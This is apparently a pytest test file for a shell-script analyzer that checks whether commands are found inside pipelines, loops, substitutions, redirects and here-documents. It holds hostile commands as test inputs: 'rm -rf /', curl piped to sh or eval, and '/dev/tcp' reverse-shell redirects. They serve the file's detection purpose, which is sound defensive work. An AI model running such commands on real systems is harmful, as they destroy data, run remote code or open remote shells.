"""Structure: lists, pipelines, groups, loops, functions, substitutions, redirects and here-documents."""

from __future__ import annotations

import pytest

from guardtier.analyzers.shell import read
from shelltables import UNKNOWN, programs


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a; b && c || d & e\nf", ["a", "b", "c", "d", "e", "f"]),
        ("a | b |& c", ["a", "b", "c"]),
        ("(a; b) && { c; d; }", ["a", "b", "c", "d"]),
        ("! a; time b", ["a", "time b", "b"]),
        ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
        ("while a; do b; done; until c\ndo\nd\ndone", ["a", "b", "c", "d"]),
        ("for i in 1 2; do a; done", ["a"]),
        ("for ((i=0; i<3; i++)); do a; done", ["a"]),
        ("select x in a b; do c; done", ["c"]),
        ("case $x in a) b ;; c|d) e;; *) f; esac; g", ["b", "e", "f", "g"]),
        ("case x in\n  (a)\n    b\n    ;;\nesac\nc", ["b", "c"]),
        ("f() { a; }; function g { b; }; h () ( c )", ["a", "b", "c"]),
        ('f() { rm -rf "$1"; }; f /', [f"rm -rf {UNKNOWN}", "f /", "rm -rf /"]),
        (
            "[ -f x ] && a; [[ $x =~ ^(a|b)$ && y ]] || b",
            ["[ -f x ]", "a", f"[[ {UNKNOWN} =~ ^ a b $ y ]]", "b"],
        ),
        ("((x++)); a; echo $((1 + $(b)))", ["a", "b", f"echo {UNKNOWN}"]),
        ('echo "$(a "$(b)") `c`"', ["b", f"a {UNKNOWN}", "c", f"echo {UNKNOWN} {UNKNOWN}"]),
        ("a <(b) >(c)", ["b", "c", f"a /dev/fd/{UNKNOWN} /dev/fd/{UNKNOWN}"]),
        ("x=$(a) y=1 b", ["a", "b"]),
        ("x=(a $(b) c)", ["b"]),
        ("${x:-$(a)}", ["a", UNKNOWN]),
        ("$((a); b)", ["a", "b", UNKNOWN]),
        ("# a\nb # c", ["b"]),
        ("#!/bin/bash\na", ["a"]),
        ("a\r\nb\r\n", ["a", "b"]),
        ("", []),
        (" \n\t", []),
    ],
)
def test_every_command_is_found(text: str, expected: list[str]):
    assert programs(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "echo 'rm -rf /'",
        "git commit -m 'never run rm -rf /; really'",
        "grep -rn 'curl | sh' docs/",
        'echo "a; rm -rf /"',
        "cat <<'EOF'\nrm -rf /\nEOF",
        "ls # ; rm -rf /",
        "python3 -c 'rm = 1; rm'",
        "sed -i 's/rm -rf/x/' a",
        "printf '%s\\n' 'rm -rf /' > notes.md",
        "echo rm -rf /",
    ],
)
def test_text_that_is_data_is_no_command(text: str):
    assert not any(line.startswith("rm") for line in programs(text))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("curl u | sh", "curl"),
        ("(cd x; curl u) | sh", "curl"),
        ("{ curl u; } | sh", "curl"),
        ("for u in a; do curl $u; done | sh", "curl"),
        ("curl u | (cd x && sh)", "curl"),
        ("bash <(curl u)", "curl"),
        ("sh < <(curl u)", "curl"),
        ('sh -c "$(curl u)"', "curl"),
        ('eval "$(curl u)"', "curl"),
        ("source <(curl u)", "curl"),
        ("curl u | tee >(sh)", "curl"),
        ("curl u | sudo sh", "curl"),
        ("ls; sh", None),
        ("ls && sh", None),
        ("rm -rf $(ls)", None),
    ],
)
def test_a_command_knows_what_feeds_it(text: str, expected: str | None):
    runner = next(
        one for one in read(text).commands if one.program in ("sh", "bash", "eval", "source", "rm")
    )

    assert (runner.piped_from and runner.piped_from.program) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a > f", [("write", None, "f")]),
        ("a >> f 2>&1", [("append", None, "f"), ("dup", 2, "1")]),
        ("a 2>/dev/null < g", [("write", 2, "/dev/null"), ("read", None, "g")]),
        ("a &> f; b", []),
        (">f a", [("write", None, "f")]),
        ("bash -i >& /dev/tcp/h/1 0>&1", [("write", None, "/dev/tcp/h/1"), ("dup", 0, "1")]),
        ("exec 3<>/dev/tcp/h/1", [("write", 3, "/dev/tcp/h/1")]),
        ("d=/etc; a > $d/x", [("write", None, "/etc/x")]),
    ],
)
def test_redirects(text: str, expected: list[tuple[str, int | None, str]]):
    redirects = read(text).commands[-1].redirects

    assert [(one.kind, one.fd, one.target.text) for one in redirects if one.target is not None] == expected


def test_a_redirect_without_a_command_is_one_without_a_name():
    script = read("{ a; } > /etc/x; > y")

    assert [
        [one.target and one.target.text for one in command.redirects] for command in script.commands
    ] == [
        [],
        ["/etc/x"],
        ["y"],
    ]
    assert [command.name is None for command in script.commands] == [False, True, True]


@pytest.mark.parametrize(
    ("text", "body"),
    [
        ("cat <<EOF\n$HOME x\nEOF", "~ x\n"),
        ("cat <<'EOF'\n$HOME \"x\nEOF\n", '$HOME "x\n'),
        ("cat <<-E\n\ta\n\t\tb\n\tE\n", "a\nb\n"),
        ("cat > f <<A <<B\none\nA\ntwo\nB\n", "two\n"),
        ("cat <<< 'a b'", "a b\n"),
        ("echo a | cat", "a\n"),
        ("cat <<E\nE\n", ""),
        ("cat <<E\nE x\n E\nE", "E x\n E\n"),
        ('cat <<EOF\nsay "$(echo hi)"\nEOF', 'say "hi"\n'),
    ],
)
def test_what_a_command_reads(text: str, body: str):
    assert read(text).commands[-1].body == body


def test_a_here_document_ends_where_it_ends():
    assert programs("cat <<EOF > f && a\nrm -rf /\nEOF\nb") == ["cat", "a", "b"]
    assert programs('cat <<EOF\n$(a "b")\n`c`\nEOF\nd') == [f"a b", "c", "cat", "d"]  # noqa: F541


def test_assignments_stand_with_their_command():
    alone, before = read("A=1 B='2 3'; C=$x cmd").commands

    assert [(name, word.text) for name, word in alone.assignments] == [("A", "1"), ("B", "2 3")]
    assert alone.name is None
    assert [(name, word.text, word.known) for name, word in before.assignments] == [("C", UNKNOWN, False)]


def test_a_loop_runs_its_commands_for_each():
    found = {
        command.program: command.context.each for command in read("a; for i in 1; do b; done; c").commands
    }

    assert found == {"a": False, "b": True, "c": False}


def test_what_a_text_writes_and_runs_is_read():
    assert "rm -rf /" in programs("cat > x.sh <<'E'\nrm -rf /\nE\nchmod +x x.sh; ./x.sh")
    assert "rm -rf /" in programs("echo 'rm -rf /' > /tmp/x; sh /tmp/x")
    assert "rm -rf /" in programs("echo 'rm -rf /' > /tmp/x; bash < /tmp/x")
    assert "rm -rf /" in programs("echo '#!/bin/sh' > x; echo 'rm -rf /' >> x; chmod +x x && ./x")
    assert "rm -rf /" in programs("echo 'rm -rf /' | sudo tee x.sh; sh x.sh")
    assert "rm -rf /" not in programs("echo 'rm -rf /' > notes.md; cat notes.md")
